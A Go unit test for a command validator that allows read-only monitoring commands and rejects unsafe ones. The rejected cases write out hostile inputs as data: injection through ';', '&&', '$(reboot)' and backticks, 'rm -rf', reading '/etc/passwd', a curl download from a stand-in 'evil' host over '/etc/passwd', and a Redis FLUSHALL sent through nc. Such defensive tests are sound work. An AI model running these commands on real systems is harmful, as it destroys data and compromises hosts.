package config

import "testing"

func TestValidateCommand(t *testing.T) {
	cases := []struct {
		command string
		ok      bool
	}{
		{command: "uptime", ok: true},
		{command: `docker inspect --format '{{.State.Status}}' api`, ok: true},
		{command: `docker inspect --format \{\{.State.Status}} api`, ok: true},
		{command: "docker ps --filter name=api | grep -c api", ok: true},
		{command: "systemctl is-active nginx", ok: true},
		{command: "curl -fsS http://localhost:8100/health", ok: true},
		{command: "curl -X HEAD http://localhost:8100/health", ok: true},
		{command: `echo "a;b"`, ok: true},
		{command: "grep 'x|y' /var/log/app.log", ok: true},
		{command: "curl -sS -m 5 -H 'Accept: application/json' http://localhost/health | jq -r .status", ok: true},
		{command: "curl -XGET http://localhost/health", ok: true},
		{command: "curl --request HEAD http://localhost/health", ok: true},
		{command: "journalctl -u api --since '5 min ago' --no-pager | tail -n 20", ok: true},
		{command: "ss -ltn", ok: true},
		{command: "date -u +%s", ok: true},
		{command: "date -d yesterday +%F", ok: true},
		{command: "", ok: false},
		{command: "docker restart api", ok: false},
		{command: "docker", ok: false},
		{command: "systemctl stop nginx", ok: false},
		{command: "rm -rf /tmp/x", ok: false},
		{command: "uptime; reboot", ok: false},
		{command: "uptime && reboot", ok: false},
		{command: "uptime || reboot", ok: false},
		{command: "uptime &", ok: false},
		{command: "echo hi > /etc/motd", ok: false},
		{command: "cat < /etc/passwd", ok: false},
		{command: "echo $(reboot)", ok: false},
		{command: "echo \"$(reboot)\"", ok: false},
		{command: "echo `reboot`", ok: false},
		{command: "uptime | sh", ok: false},
		{command: "curl -X POST http://localhost/admin", ok: false},
		{command: "curl --request=DELETE http://localhost/admin", ok: false},
		{command: "curl -d x=1 http://localhost/admin", ok: false},
		{command: "curl -o /etc/passwd http://evil", ok: false},
		{command: "echo 'unterminated", ok: false},
		{command: "sudo docker ps", ok: false},
		{command: "echo FLUSHALL | nc localhost 6379", ok: false},
		{command: "nc -z localhost 6379", ok: false},
		{command: "uptime | cat", ok: false},
		{command: "curl -XPOST http://localhost:8080/admin/reset", ok: false},
		{command: "curl -XDELETE http://localhost:8080/admin/cache", ok: false},
		{command: "curl -sXPUT http://localhost:8080/admin", ok: false},
		{command: "curl --request PATCH http://localhost/admin", ok: false},
		{command: "curl -sdx=1 http://localhost/admin", ok: false},
		{command: "curl -fsSo /tmp/out http://localhost/", ok: false},
		{command: "curl -O http://localhost/file", ok: false},
		{command: "curl -Tfile http://localhost/upload", ok: false},
		{command: "curl -Fa=b http://localhost/upload", ok: false},
		{command: "curl --json '{}' http://localhost/admin", ok: false},
		{command: "journalctl --vacuum-time=1s", ok: false},
		{command: "journalctl --rotate", ok: false},
		{command: "journalctl --flush", ok: false},
		{command: "ss -K dst 10.0.0.1", ok: false},
		{command: "ss --kill state established", ok: false},
		{command: "date -s 2000-01-01", ok: false},
		{command: "date --set=2000-01-01", ok: false},
		{command: "date 010100002000", ok: false},
	}

	for _, tc := range cases {
		err := ValidateCommand(tc.command)
		if tc.ok && err != nil {
			t.Fatalf("%q: unexpected error: %v", tc.command, err)
		}
		if !tc.ok && err == nil {
			t.Fatalf("%q: expected rejection", tc.command)
		}
	}
}
